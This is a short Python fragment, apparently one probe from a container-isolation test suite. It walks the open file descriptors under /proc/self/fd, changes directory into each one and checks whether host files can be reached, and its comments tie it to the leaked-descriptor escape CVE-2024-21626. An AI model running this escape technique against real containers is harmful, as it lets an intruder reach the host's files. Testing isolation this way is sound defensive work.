# tries: enters a folder of the host by a descriptor left open, and climbs from there
# stopped by: descriptors
# like: CVE-2024-21626

for number in range(3, 1024):
    here = f"/proc/self/fd/{number}"
    try:
        os.chdir(here)
    except OSError:
        continue
    got("a folder by", here, os.listdir("."), os.path.exists("." + FACTS.readable))
